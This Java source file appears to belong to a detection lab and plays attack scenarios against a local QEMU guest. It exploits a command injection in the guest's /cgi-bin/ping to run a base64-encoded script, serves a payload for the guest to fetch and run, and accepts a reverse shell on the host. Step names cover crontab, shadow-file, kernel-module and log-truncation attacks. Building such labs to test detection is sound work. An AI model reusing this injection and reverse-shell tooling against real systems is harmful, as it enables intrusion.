package io.vmiscope.guest;

import com.sun.net.httpserver.HttpServer;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

/**
 * The lab's attack scenarios (docs/detection.md, "Live scenarios") played from the host against a running guest,
 * as an attacker would: each step runs the guest's scenario script (for the demo guest
 * {@code lab/attack-scenarios.sh}, for the Debian guest {@code lab/attack-scenarios-debian.sh}: the one file per
 * guest that says what each step does) through the command injection of the guest's {@code /cgi-bin/ping}, over
 * its forwarded HTTP port. The host side that the steps need listens on 127.0.0.1 only, which the guest reaches as
 * {@value #GUEST_SEES_HOST_AS} through QEMU's user networking: an HTTP server with the payload that step
 * {@code download} fetches, and the listener that step {@code reverse-shell} connects back to (it sends {@code id}
 * and {@code exit} and keeps what comes back).
 *
 * <p>{@link #close()} stops both. Not thread-safe: one step at a time.
 */
public final class LabAttack implements AutoCloseable {

    /** The host's loopback as QEMU's user networking shows it to the guest. */
    public static final String GUEST_SEES_HOST_AS = "10.0.2.2";

    /** What step {@code download} fetches and runs: a harmless script. */
    static final String PAYLOAD = "#!/bin/sh\necho \"lab payload ran as uid $(id -u)\"\n";

    /** A step on the Debian guest under TCG with file events traced took up to 55 s on a loaded 2-core host. */
    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(120);
    private static final int MAX_TRANSCRIPT_BYTES = 64 * 1024;

    /** What one step did: when it was sent (host's {@link System#nanoTime()}), how long it took, what it printed. */
    public record StepResult(String step, long sentNanos, Duration took, String output) {
    }

    /** A guest's scenario script, the shell the injection runs it with, and its steps in the order of a whole run. */
    private record Scenarios(String script, String shell, List<String> steps) {

        static Scenarios of(GuestDistro distro) {
            return switch (distro) {
                case BUSYBOX -> new Scenarios("lab/attack-scenarios.sh", "sh", List.of("injection", "download",
                        "reverse-shell", "crontab", "shadow", "module", "log-truncation"));
                case DEBIAN -> new Scenarios("lab/attack-scenarios-debian.sh", "bash", List.of("injection",
                        "download", "reverse-shell", "crontab", "shadow", "module", "user-added", "log-truncation"));
            };
        }
    }

    private final Scenarios scenarios;
    private final URI vulnerable;
    private final HttpServer payloadServer;
    private final ServerSocket listener;
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
    private final byte[] script;

    private LabAttack(Scenarios scenarios, int guestHttpPort, HttpServer payloadServer, ServerSocket listener) {
        this.scenarios = scenarios;
        this.vulnerable = URI.create("http://127.0.0.1:" + guestHttpPort + "/cgi-bin/ping");
        this.payloadServer = payloadServer;
        this.listener = listener;
        this.script = script(scenarios.script());
    }

    /** The steps this lab plays, in the order a whole run plays them. */
    public List<String> steps() {
        return scenarios.steps();
    }

    /**
     * Starts the host side (payload server and listener on free loopback ports) for a guest of {@code distro} whose
     * port 80 is forwarded to {@code guestHttpPort} on the host's loopback.
     *
     * @throws UncheckedIOException when a loopback port cannot be opened
     */
    public static LabAttack start(GuestDistro distro, int guestHttpPort) {
        InetAddress loopback = InetAddress.getLoopbackAddress();
        HttpServer server = null;
        try {
            server = HttpServer.create(new InetSocketAddress(loopback, 0), 0);
            server.createContext("/lab-payload", exchange -> {
                byte[] body = PAYLOAD.getBytes(StandardCharsets.UTF_8);
                exchange.sendResponseHeaders(200, body.length);
                try (OutputStream out = exchange.getResponseBody()) {
                    out.write(body);
                }
            });
            server.start();
            ServerSocket listener = new ServerSocket(0, 1, loopback);
            return new LabAttack(Scenarios.of(distro), guestHttpPort, server, listener);
        } catch (IOException e) {
            if (server != null) {
                server.stop(0);
            }
            throw new UncheckedIOException("cannot listen on the host's loopback for the lab: " + e.getMessage(), e);
        }
    }

    /**
     * Plays one step and returns what the guest answered (for {@code reverse-shell}: what the shell answered on the
     * listener, within two minutes).
     *
     * @throws IllegalArgumentException for an unknown step
     * @throws IllegalStateException    when the guest's web service does not answer 200
     */
    public StepResult run(String step) {
        if (!steps().contains(step)) {
            throw new IllegalArgumentException("unknown step '" + step + "'; steps: " + String.join(", ", steps()));
        }
        CompletableFuture<String> shell = step.equals("reverse-shell") ? acceptShell() : null;
        long sent = System.nanoTime();
        String answer = inject("echo " + Base64.getEncoder().encodeToString(script) + "|base64 -d|LAB_HOST="
                + GUEST_SEES_HOST_AS + " LAB_HTTP_PORT=" + payloadServer.getAddress().getPort() + " LAB_SHELL_PORT="
                + listener.getLocalPort() + " " + scenarios.shell() + " -s " + step);
        String output = shell == null ? answer : transcript(shell);
        return new StepResult(step, sent, Duration.ofNanos(System.nanoTime() - sent), output);
    }

    /** Requests {@code /cgi-bin/ping?host=127.0.0.1;COMMAND}: the flaw runs COMMAND in the CGI's shell. */
    private String inject(String command) {
        URI uri = URI.create(vulnerable + "?host=" + URLEncoder.encode("127.0.0.1;" + command, StandardCharsets.UTF_8));
        try {
            HttpResponse<String> answer = http.send(HttpRequest.newBuilder(uri).timeout(STEP_TIMEOUT).build(),
                    HttpResponse.BodyHandlers.ofString());
            if (answer.statusCode() != 200) {
                throw new IllegalStateException("the guest's /cgi-bin/ping answered " + answer.statusCode());
            }
            return answer.body();
        } catch (IOException e) {
            throw new UncheckedIOException("cannot reach the guest's web service at " + vulnerable + ": "
                    + e.getMessage(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted while waiting for the guest's web service", e);
        }
    }

    /** Accepts the reverse shell's connection, runs {@code id} in it and keeps what it printed (capped). */
    private CompletableFuture<String> acceptShell() {
        return CompletableFuture.supplyAsync(() -> {
            try {
                listener.setSoTimeout((int) STEP_TIMEOUT.toMillis());
                try (Socket s = listener.accept()) {
                    s.setSoTimeout((int) STEP_TIMEOUT.toMillis());
                    s.getOutputStream().write("id\nexit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getOutputStream().flush();
                    InputStream in = s.getInputStream();
                    return new String(in.readNBytes(MAX_TRANSCRIPT_BYTES), StandardCharsets.UTF_8);
                }
            } catch (SocketTimeoutException e) {
                return "no reverse shell connected within " + STEP_TIMEOUT.toSeconds() + " s";
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static String transcript(CompletableFuture<String> shell) {
        try {
            return shell.get(STEP_TIMEOUT.toSeconds() + 10, TimeUnit.SECONDS);
        } catch (ExecutionException | TimeoutException e) {
            throw new IllegalStateException("the reverse shell's listener failed: " + e.getMessage(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted while waiting for the reverse shell", e);
        }
    }

    private static byte[] script(String resource) {
        try (InputStream in = LabAttack.class.getResourceAsStream(resource)) {
            if (in == null) {
                throw new IllegalStateException("resource " + resource + " missing from the jar");
            }
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Override
    public void close() {
        payloadServer.stop(0);
        try {
            listener.close();
        } catch (IOException e) {
            // closing a listening socket that failed leaves nothing behind to clean up
        }
    }
}
